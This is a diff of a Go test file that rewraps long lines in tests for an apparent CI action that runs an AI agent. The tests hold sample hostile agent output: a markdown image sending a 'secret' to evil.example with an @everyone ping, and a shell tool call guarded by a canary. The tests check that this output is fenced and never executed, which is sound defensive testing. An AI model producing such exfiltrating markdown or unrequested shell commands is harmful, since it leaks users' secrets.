@@ -202,7 +202,8 @@ func TestW6_Action(t *testing.T) {
 	j.mu.Lock()
 	defer j.mu.Unlock()
 	want := "`````text\nMended, @everyone: ````x ![](https://evil.example/?code) the key is [secret "
-	if len(j.comments) != 1 || !strings.HasPrefix(j.comments[0], want) || !strings.HasSuffix(j.comments[0], "\n`````\n") {
+	if len(j.comments) != 1 || !strings.HasPrefix(j.comments[0], want) ||
+		!strings.HasSuffix(j.comments[0], "\n`````\n") {
 		t.Errorf("comments: %q", j.comments)
 	}
 	if summary := j.left("summary"); summary != j.comments[0] {
@@ -240,7 +241,8 @@ for i in $(seq 0 59); do cp -r n/. s$i && git rev-parse HEAD:s$i >s$i/.git/HEAD;
 func TestW6_ActionRunsNothingOfTheAgents(t *testing.T) {
 	t.Parallel()
 	canary := filepath.Join(t.TempDir(), "canary")
-	url, _ := serve(t, nil, say("A repository.", use("shell", object{"command": nestedRepository(canary)})), say("Done."))
+	url, _ := serve(t, nil, say("A repository.", use("shell", object{"command": nestedRepository(canary)})),
+		say("Done."))
 	j := newAction(t, url)
 	j.withSubmodules()
 	j.inputs["check"] = ""
@@ -310,7 +312,8 @@ func TestW6_ActionRefuses(t *testing.T) {
 		{name: "no checkout", step: "prepare", want: "directory has to be a checkout",
 			inputs: map[string]string{"directory": "/nonexistent"}},
 		{name: "no key", step: "run", want: "there is no api-key", inputs: map[string]string{"api-key": ""}},
-		{name: "another variable", step: "run", want: "and not PATH", inputs: map[string]string{"api-key-variable": "PATH"}},
+		{name: "another variable", step: "run", want: "and not PATH",
+			inputs: map[string]string{"api-key-variable": "PATH"}},
 		{name: "no number", step: "comment", want: "and not 7/x", inputs: map[string]string{"comment": "7/x"}},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
